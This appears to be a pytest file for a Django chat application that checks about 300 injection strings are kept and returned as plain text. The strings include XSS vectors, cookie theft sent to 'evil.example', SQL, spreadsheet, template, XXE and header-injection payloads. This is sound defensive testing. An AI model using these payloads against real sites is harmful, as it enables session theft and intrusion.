"""Three hundred attempts to inject scripts, through every text that anybody can write: kept and returned as text."""

import pytest

from agents.models import Agent
from interactions.models import Interaction

from .scene import Caller, forget_counts, line, start

pytestmark = [pytest.mark.django_db, pytest.mark.once]

CALLS = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')"]
SHELLS = [
    "<script>{}</script>",
    "<ScRiPt/x>{}</sCrIpT >",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}//",
    "<!--><script>{}</script>-->",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}//",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href='javascript:{}'>x</a>",
    "<a href='jav&#x09;ascript:{}'>x</a>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "https://example.org/\"onmouseover='{}'",
    "https://example.org/'><script>{}</script>",
    "https://example.org/#</script><script>{}</script>",
    "<form action=javascript:{}><button>x</button></form>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='data:,*{{x:expression({})}}'>",
    "<style>@import 'javascript:{}';</style>",
    "<div style=\"background:url('javascript:{}')\">x</div>",
    "<x onclick={}>x</x>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "#{{{}}}",
    "{{% {} %}}",
    "<%= {} %>",
    "`-{}-`",
    "'-{}-'",
    '"-{}-"',
    "\\';{}//",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "＜script＞{}＜/script＞",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script\n>{}</script\n>",
    "<script\t>{}</script>",
    "\u202e<script>{}</script>",
    "\ufeff<script>{}</script>",
    "[x](javascript:{})",
    "![x](javascript:{})",
    "<xmp><script>{}</script>",
    "<plaintext><script>{}</script>",
    "'; DROP TABLE interactions_message; -- {}",
    "1' OR '1'='1' /* {} */",
    "=cmd|' /C {}'!A0",
    '{{"__proto__": "{}"}}',
    "__proto__ {}",
    "{{0.__class__.__init__.__globals__}} {}",
    "{{who}} %s %(x)s {}",
    "../../../../etc/passwd {}",
    "\r\nSet-Cookie: x={}",
    "<portal src=javascript:{}>",
    "<marquee onstart={}>",
    "<keygen autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<table background=javascript:{}>",
    "<button popovertarget=x onbeforetoggle={}>",
    "<animate onbegin={} attributeName=x dur=1s>",
    "<set attributeName=href to=javascript:{}>",
    "<use href=\"data:image/svg+xml,<svg id='x' onload='{}'/>#x\">",
    "<image href=x onerror={}>",
    "<audio src onloadstart={}>",
    "<a ping=//evil.example href=# onauxclick={}>x</a>",
    "<input type=image src=x onerror={}>",
    "<isindex type=image src=1 onerror={}>",
    "<frameset onload={}>",
    "<bgsound src=javascript:{}>",
    "<layer src=javascript:{}>",
    "<dialog open onclose={}>",
    "<slot onslotchange={}></slot>",
    "vbscript:{}",
    "<script src=//evil.example/{}></script>",
    "<script type=module>{}</script>",
    "<script>/*{}*/</script",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{}</x>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<esi:include src=//evil.example/{} />",
    "<#assign x={}>",
    "@{{{}}}",
    "*{{{}}}",
    "~{{{}}}",
]
PAYLOADS = [shell.format(call) for shell in SHELLS for call in CALLS]


def cleaned(text: str) -> str:
    """Lines keep their text; only the carriage return is written as a new line."""
    return text.replace("\r\n", "\n")


def test_there_are_three_hundred_different_ones():
    assert len(set(PAYLOADS)) >= 300


@pytest.mark.parametrize(("role", "lane"), [("contact", "public"), ("ana", "public"), ("ana", "internal")])
def test_lines(scene, role, lane):
    caller = scene.as_(role)
    path = f"contact/chats/{scene.chat.id}" if role == "contact" else f"interactions/{scene.chat.id}"
    for text in PAYLOADS:
        body = line(text) if role == "contact" else line(text, lane=lane)
        assert caller.post(f"{path}/messages", body).status == 201
    found = scene.as_("ana").get(f"interactions/{scene.chat.id}/messages", lane=lane, limit=500).data["results"]
    assert [each["text"] for each in found if each["kind"] == "text"][-len(PAYLOADS) :] == [
        cleaned(p) for p in PAYLOADS
    ]


@pytest.mark.parametrize("third", range(3))
def test_names_and_answers_of_contacts(scene, third):
    """As the name that agents read and as case data."""
    texts = [text for text in PAYLOADS if len(text) <= 120]
    assert len(texts) > 290
    for text in texts[third::3]:
        started = scene.as_("nobody").post("contact/chats", start(name=text, fields={"order": text}))
        made = Interaction.objects.select_related("contact").get(pk=started.data["chat"])
        assert made.contact.name == text.strip()
        assert made.case == {"order": text.strip()}
        forget_counts()


def test_a_chat_named_so_shows_its_name_as_text_everywhere(scene):
    """In the preview, in the window, on the End button, and in what is said of the contact."""
    world, ana = scene.world, scene.as_("ana")
    Agent.objects.exclude(pk=world.ana.pk).update(capacity=0)
    Agent.objects.filter(pk=world.ana.pk).update(capacity=50)
    world.offer()
    world.accept(world.ana)
    for text in PAYLOADS[::20]:
        chat = world.chat(name=text)
        world.offer()
        (preview,) = ana.get("desk").data["invitations"]
        assert preview["contact"] == text.strip()
        shown = ana.post(f"invitations/{preview['id']}/accept").data["interaction"]
        assert shown["contact"]["name"] == text.strip()
        assert shown["end"]["face"] == f"End chat with {text.strip()}"
        Caller(token=scene.token(chat)).post(f"contact/chats/{chat.id}/leave")
        said = ana.get(f"interactions/{chat.id}/messages", lane="public").data["results"][-1]["text"]
        assert said == f"{text.strip()} has left the chat"


def joined(limit: int) -> list[str]:
    """All of them in as few texts as the limit allows."""
    texts = [""]
    for text in PAYLOADS:
        if len(texts[-1]) + len(text) + 1 > limit:
            texts.append("")
        texts[-1] += f"{text}|"
    return texts


def test_notes(scene):
    for text in joined(5000):
        answer = scene.as_("ana").put(f"interactions/{scene.chat.id}/note", {"text": text})
        assert answer.data["segment"]["note"] == text


def test_notes_of_invitations(scene):
    ana, cy = scene.as_("ana"), scene.as_("cy")
    body = {"target": {"type": "agent", "id": str(scene.world.cy.id)}}
    for text in joined(500):
        assert ana.post(f"interactions/{scene.chat.id}/conference", {**body, "note": text}).status == 202
        (preview,) = cy.get("desk").data["invitations"]
        assert preview["note"] == text.strip()
        assert cy.post(f"invitations/{preview['id']}/reject").status == 200


def test_questions_lanes_and_names_of_fields(scene):
    """What is never kept."""
    ana = scene.as_("ana")
    for text in PAYLOADS:
        assert ana.get("targets", q=text[:80]).status == 200
    for text in PAYLOADS[::5]:
        assert ana.get(f"interactions/{scene.chat.id}/messages", lane=text[:36]).status == 404
    refused = ana.post("me/beat", dict.fromkeys(PAYLOADS, "x"))
    assert refused.data["detail"] == {key: ["There is no such field."] for key in PAYLOADS}
    assert refused.headers["Content-Type"] == "application/json"


@pytest.mark.parametrize("slug", PAYLOADS[:12])
def test_error_pages_do_not_repeat_the_address(client, slug):
    answer = client.get("/chat/" + slug.replace("/", "") + "/")
    assert answer.status_code == 404
    assert b"<script>alert" not in answer.content


def test_ids_are_ids_and_nothing_else(scene):
    for text in PAYLOADS[::10]:
        answer = scene.as_("ana").post(f"interactions/{scene.chat.id}/messages", {"id": text, "text": "x"})
        assert list(answer.data["detail"]) == ["id"]
